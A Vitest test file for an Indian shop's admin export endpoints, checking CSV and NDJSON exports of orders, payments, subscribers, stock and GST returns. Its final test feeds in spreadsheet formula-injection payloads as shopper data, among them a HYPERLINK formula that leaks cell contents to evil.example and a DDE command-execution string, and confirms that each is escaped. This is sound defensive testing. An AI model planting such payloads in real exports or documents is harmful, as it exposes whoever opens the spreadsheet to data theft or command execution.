/**
 * Exports: the content of the files, and that they are safe to open. rule: long - each file of the screen, read back
 */
import { beforeEach, describe, expect } from 'vitest';
import { documents, orderEvents, orders, payments, refunds, subscribers } from '#db/schema/index.ts';
import { collectorOf } from '#desk/export/collect.ts';
import type { SuppliedOrder } from '#domain/documents/order-invoice.ts';
import { address, kit, serum as serumLine, soap } from '#domain/documents/testing/sample-documents.ts';
import { dayOf, oneDay, startOfDay } from '#lib/dates.ts';
import { password } from '../support/accounts.ts';
import { creditNoteRow } from '../support/credit-notes.ts';
import { invoiceRow } from '../support/documents.ts';
import { insertOrder, lastMoment, requestExport, tableOf } from '../support/exports.ts';
import { serum, toner } from '../support/orders.ts';
import { countRows } from '../support/rows.ts';
import { shopTest } from '../support/shop-test.ts';

const { shop, operator, test } = shopTest();

beforeEach(() => shop.db.write.batch([shop.db.write.delete(orders), shop.db.write.delete(subscribers)]));

const ask = (over: object = {}) => requestExport(operator, over);

test('a file of orders: rupees, Indian time, and text that spreadsheets must not convert', async () => {
  const id = await insertOrder(shop.db, {}, { city: 'बेंगलुरु', address: '5-9-22' });
  await shop.db.write
    .insert(refunds)
    .values({ id, orderId: id, amount: 10_050, reason: 'returned', status: 'done', createdAt: lastMoment });
  const { status, headers, text } = await ask({ from: '2026-11-20', to: '2026-11-20' });
  expect(status).toBe(200);
  expect(Object.fromEntries(headers)).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="orders-2026-11-20-to-2026-11-20.csv"',
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
    'export-count': '1',
  });
  expect(headers.has('export-next')).toBe(false);
  expect(tableOf(text)).toEqual([
    {
      Order: expect.stringMatching(/^ORD-\d{6}$/),
      'Placed (Indian time)': '2026-11-20 23:59:59',
      Status: 'Delivered',
      Paid: 'yes',
      'Payment method': 'Cash on Delivery',
      Pieces: '2',
      'Subtotal (₹)': '948.00',
      'Discount (₹)': '94.80',
      Code: 'MONSOON-10',
      'Delivery (₹)': '49.00',
      'Total (₹)': '902.20',
      'Refunded (₹)': '100.50',
      Name: 'Asha Rao',
      Phone: '9876543210',
      Email: 'asha@example.in',
      Address: "'5-9-22",
      City: 'बेंगलुरु',
      State: 'Karnataka',
      Pincode: '560001',
      Courier: 'Delhivery',
      'Tracking number': "'0014523698741",
      'E-way bill': '',
      Business: '',
      GSTIN: '',
      'Registered address': '',
      Sample: 'no',
      'Kind of discount': 'Discount (MONSOON-10)',
    },
  ]);
});

test('the file begins with the byte order mark that Excel needs, and every row ends with CRLF', async () => {
  await insertOrder(shop.db);
  const response = await fetch(`${shop.stack.url}/api/desk/export`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', token: operator.token },
    body: JSON.stringify({ sheet: 'orders', from: '2026-01-01', to: '2026-12-31', password }),
  });
  const bytes = Buffer.from(await response.arrayBuffer());
  expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
  expect(bytes.toString().match(/\r\n/g)).toHaveLength(2);
  expect(bytes.toString().endsWith('\r\n')).toBe(true);
});

test('a row for each line, with its share of the discount', async () => {
  const id = await insertOrder(shop.db);
  const rows = tableOf((await ask({ sheet: 'lines' })).text);
  const known = { Paid: 'yes', State: 'Karnataka', Sample: 'no', Status: 'Delivered' };
  expect(rows).toEqual([
    expect.objectContaining({
      ...known,
      Product: serum,
      Name: 'Glow Serum',
      Pieces: '1',
      'Amount (₹)': '539.10',
    }),
    expect.objectContaining({
      ...known,
      Product: toner,
      Name: 'Rose "Balance", 100 ml',
      'Price each (₹)': '349.00',
      'Discount (₹)': '34.90',
      'Amount (₹)': '314.10',
    }),
  ]);
  expect(new Set(rows.map((row) => row.Order)).size).toBe(1);
  expect(id).toBeTruthy();
});

test('newsletter: current subscribers by time of subscription', async () => {
  const rows: [string, string, number | null][] = [
    ['late@example.in', '2026-11-21T00:00:00+05:30', null],
    ['early@example.in', '2026-11-20T23:59:59+05:30', null],
    ['gone@example.in', '2026-11-20T12:00:00+05:30', lastMoment],
  ];
  await shop.db.write
    .insert(subscribers)
    .values(
      rows.map(([email, when, unsubscribedAt]) => ({
        email,
        createdAt: Date.parse(when),
        unsubscribedAt,
        token: `secret ${email}`,
      })),
    );
  const { text } = await ask({ sheet: 'subscribers' });
  expect(tableOf(text)).toEqual([
    { Email: 'early@example.in', 'Subscribed (Indian time)': '2026-11-20 23:59:59' },
    { Email: 'late@example.in', 'Subscribed (Indian time)': '2026-11-21 00:00:00' },
  ]);
  expect(text).not.toContain('secret');
  expect(tableOf((await ask({ sheet: 'subscribers', to: '2026-11-20' })).text)).toHaveLength(1);
});

test('stock: every product as it is now', async () => {
  const { text, headers } = await ask({ sheet: 'stock', from: '2026-11-21', to: '2026-11-21' });
  expect(headers.get('content-disposition')).toBe('attachment; filename="stock-2026-11-21.csv"');
  const rows = tableOf(text);
  expect(rows).toHaveLength(await countRows(shop.db, 'products'));
  expect(rows.find(({ ID }) => ID === serum)).toMatchObject({
    'Price (₹)': '599.00',
    'MRP (₹)': '749.00',
    'Stock (pieces)': '100',
    Active: 'yes',
  });
});

test('payments by when they came in, and refunds by when they were done, with the ids of the provider', async () => {
  const [card, cash] = [await insertOrder(shop.db, { paymentMethod: 'stripe' }), await insertOrder(shop.db)];
  const at = (minutes: number) => lastMoment - 60_000 * minutes;
  const event = { actor: 'provider', kind: 'status', toStatus: 'Order Placed' } as const;
  await shop.db.write.insert(orderEvents).values([
    { ...event, id: crypto.randomUUID(), orderId: card, at: at(9) },
    { ...event, id: crypto.randomUUID(), orderId: cash, at: at(8), actor: 'shopper' },
    {
      ...event,
      id: `collected:${cash}`,
      orderId: cash,
      at: at(7),
      actor: 'operator',
      kind: 'payment',
      toStatus: null,
    },
  ]);
  await shop.db.write
    .insert(payments)
    .values({
      orderId: card,
      method: 'stripe',
      amount: 90_220,
      providerId: 'cs_1',
      paymentId: 'pi_1',
      holdUntil: 0,
      origin: '',
    });
  const refund = { amount: 10_000, createdAt: at(6), doneAt: at(3), status: 'done' } as const;
  await shop.db.write.insert(refunds).values([
    { ...refund, id: 'refund-1', orderId: card, reason: 'returned', paymentId: 'pi_1', providerId: 're_1' },
    {
      ...refund,
      id: 'refund-2',
      orderId: cash,
      reason: 'adjustment',
      doneAt: at(2),
      note: '=A dent',
      transfer: 'upi',
      transferReference: '004512345678',
    },
    // Waiting: it is on no statement yet.
    { ...refund, id: 'refund-3', orderId: card, reason: 'adjustment', status: 'due', doneAt: null },
    // The money came in at 6 minutes, and goes back later.
    {
      ...refund,
      id: 'refund-4',
      orderId: card,
      reason: 'late_payment',
      paymentId: 'pi_2',
      status: 'due',
      doneAt: null,
    },
  ]);
  const { text, headers } = await ask({ sheet: 'payments', from: '2026-11-20', to: '2026-11-20' });
  expect(headers.get('export-count')).toBe('5');
  const shown = tableOf(text).map((row) => [
    row['Date (Indian time)'],
    row.What,
    row['Received (₹)'],
    row['Refunded (₹)'],
    row['Payment id'],
    row['Session or order of the provider'],
    row['Refund id'],
    row['Sent by'],
    row['Transfer reference'],
    row.Reason,
    row.Note,
  ]);
  expect(shown).toEqual([
    ['2026-11-20 23:50:59', 'Payment', '902.20', '', 'pi_1', 'cs_1', '', '', '', '', ''],
    ['2026-11-20 23:52:59', 'Payment', '902.20', '', '', '', '', '', '', '', ''],
    [
      '2026-11-20 23:53:59',
      'Payment',
      '100.00',
      '',
      'pi_2',
      'cs_1',
      '',
      '',
      '',
      'Paid too late, or twice',
      '',
    ],
    ['2026-11-20 23:56:59', 'Refund', '', '100.00', 'pi_1', 'cs_1', 're_1', '', '', 'Returned', ''],
    [
      '2026-11-20 23:57:59',
      'Refund',
      '',
      '100.00',
      '',
      '',
      '',
      'UPI',
      "'004512345678",
      'Price reduced',
      "'=A dent",
    ],
  ]);
  expect((await ask({ sheet: 'payments', from: '2026-11-21' })).headers.get('export-count')).toBe('0');
});

test('GST: the register, the credit notes and GSTR-1 of the same documents have the same sums', async () => {
  const business = { gstin: '27AAPFU0939F1ZV', name: '=Asha Traders' };
  const to = (state: string) => ({ address: { ...address, state } });
  const sold: Partial<SuppliedOrder>[] = [
    { lines: [{ ...serumLine, quantity: 3, discount: 1001 }, soap], delivery: 4900 },
    { ...to('Kerala'), lines: [{ ...kit, quantity: 100 }] },
    { ...to('Maharashtra'), business, lines: [{ ...serumLine, quantity: 2 }, soap], delivery: 5001 },
    { ...to('Ladakh'), lines: [kit] },
  ];
  const today = dayOf(Date.now());
  const noon = (startOfDay(today) ?? 0) + oneDay / 2;
  const [first, large, registered, ladakh] = sold.map((change, n) => ({
    ...invoiceRow(`tax-${n}`, 100 + n, change),
    at: noon + n,
  }));
  if (!(first && large && registered && ladakh)) throw new Error('no invoices');
  const byUnit = creditNoteRow(first, 1, { lines: [{ position: 0, quantity: 1 }] });
  const notes = [
    byUnit.row,
    creditNoteRow(first, 2, { amount: 5003 }, byUnit.reductions).row,
    creditNoteRow(large, 3, { lines: [{ position: 0, quantity: 7 }] }).row,
    creditNoteRow(registered, 4, { everything: true }).row,
  ];
  // The first moment of the next day in India.
  const later = { ...invoiceRow('tax-9', 109), at: noon + oneDay / 2 };
  await shop.db.write.insert(documents).values([first, large, registered, ladakh, ...notes, later]);

  const { headers, text } = await ask({ sheet: 'gst', from: today, to: today });
  expect(Object.fromEntries(headers)).toMatchObject({
    'content-type': 'application/x-ndjson; charset=utf-8',
    'content-disposition': `attachment; filename="gst-${today}-to-${today}.ndjson"`,
    'export-count': '8',
  });
  expect(text).not.toContain('Palm Grove');
  const collector = collectorOf({ sheet: 'gst', days: { from: today, to: today } });
  await collector.add(new Blob([text]));
  const { files, totals } = collector.finish();
  expect([totals?.invoices.documents, totals?.creditNotes.documents]).toEqual([4, 4]);

  const table = async (name: string) => {
    const file = files.find((one) => one.name === `${name}-${today}-to-${today}.csv`);
    return tableOf((await file?.content.text())?.replace(/^\ufeff/, '') ?? '');
  };
  const sum = async (title: string, ...names: string[]) => {
    const rows = (await Promise.all(names.map(table))).flat();
    return rows.reduce((all, row) => all + Math.round(Number(row[title]) * 100), 0);
  };
  const columns = [
    ['Taxable value (₹)', 'Taxable Value'],
    ['CGST (₹)', 'Central Tax Amount'],
    ['SGST/UTGST (₹)', 'State/UT Tax Amount'],
    ['IGST (₹)', 'Integrated Tax Amount'],
  ] as const;
  for (const [own, title] of columns) {
    const net = (await sum(own, 'sales-register')) - (await sum(own, 'credit-notes'));
    if (title === 'Taxable Value') {
      const listed = await sum(title, 'gstr1-b2b', 'gstr1-b2cl', 'gstr1-b2cs');
      expect([title, listed - (await sum(title, 'gstr1-cdnr', 'gstr1-cdnur'))]).toEqual([title, net]);
    }
    expect([title, await sum(title, 'gstr1-hsn-b2b', 'gstr1-hsn-b2c')]).toEqual([title, net]);
    expect(net).toBeGreaterThan(0);
  }
  const total = await sum('Total (₹)', 'sales-register');
  expect(total).toBe([first, large, registered, ladakh].reduce((all, { data }) => all + data.total, 0));
  expect(totals?.net.total).toBe(total - (await sum('Total (₹)', 'credit-notes')));

  const json = async (name: string) =>
    JSON.parse(
      (await files.find((one) => one.name === `${name}-${today}-to-${today}.json`)?.content.text()) ?? '',
    );
  const { fp, b2b, hsn } = await json('gstr1');
  expect([fp, b2b[0].ctin]).toEqual([`${today.slice(5, 7)}${today.slice(0, 4)}`, business.gstin]);
  const goods: { txval: number }[] = [...hsn.hsn_b2b, ...hsn.hsn_b2c];
  const { sup_details: outward } = await json('gstr3b');
  const taxable = totals?.net.taxable;
  expect(goods.reduce((all, { txval }) => all + Math.round(txval * 100), 0)).toBe(taxable);
  expect(Math.round(outward.osup_det.txval * 100)).toBe(taxable);

  const lines = await table('sales-register');
  expect(lines.filter(({ Description }) => Description === 'Delivery').map((row) => row['Rate (%)'])).toEqual(
    ['5', '18', '5', '18'],
  );
  // The date is that of the document itself.
  expect(lines.find(({ GSTIN }) => GSTIN)).toMatchObject({
    Invoice: registered.number,
    Date: '2026-11-25',
    Recipient: "'=Asha Traders",
    GSTIN: business.gstin,
    'Place of supply': '27-Maharashtra',
    HSN: '330499',
    Quantity: '2',
    Unit: 'NOS',
    'Total (₹)': '1198.00',
  });
  expect((await table('credit-notes'))[0]).toMatchObject({
    'Credit note': byUnit.row.number,
    Invoice: first.number,
    Reason: 'Came back',
    Quantity: '1',
  });
  expect((await table('gstr1-cdnur')).map((row) => row['Note Number'])).toEqual([notes[2]?.number]);
  expect((await table('gstr1-docs')).map((row) => row['Total Number'])).toEqual(['4', '4']);
});

describe('a period', () => {
  test.for([
    ['2026-11-20', '2026-11-20', 1],
    ['2026-11-21', '2026-11-21', 0],
    ['2026-11-01', '2026-11-19', 0],
    ['2020-01-01', '2030-01-01', 1],
  ])('%s to %s, both days in it by Indian time: %d', async ([from, to, count]) => {
    await insertOrder(shop.db);
    const { status, headers, text } = await ask({ from, to });
    expect([status, headers.get('export-count'), tableOf(text).length]).toEqual([200, String(count), count]);
  });

  test('a forged cursor from before the period returns nothing from before it', async () => {
    await insertOrder(shop.db);
    const { headers } = await ask({ from: '2026-11-21', after: '0.x' });
    expect(headers.get('export-count')).toBe('0');
  });
});

test('shoppers’ text is complete in the file, and never a formula', async () => {
  const hostile = {
    firstName: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    lastName: 'Rao',
    address: '@SUM(A1:A9)\r\n=1+1',
    city: '\t=1+1',
    state: '"',
    zipcode: '-560001',
    phone: '+91 98765 43210',
    email: "=cmd|' /C calc'!A0",
  };
  await insertOrder(shop.db, { trackingId: ' "+1', courier: '＝1' }, hostile);
  const [row] = tableOf((await ask()).text);
  expect(row).toMatchObject({
    Name: `'${hostile.firstName} Rao`,
    Address: `'${hostile.address}`,
    City: `'${hostile.city}`,
    State: '"',
    Pincode: `'${hostile.zipcode}`,
    Phone: `'${hostile.phone}`,
    Email: `'${hostile.email}`,
    'Tracking number': `' "+1`,
    Courier: `'＝1`,
  });
});
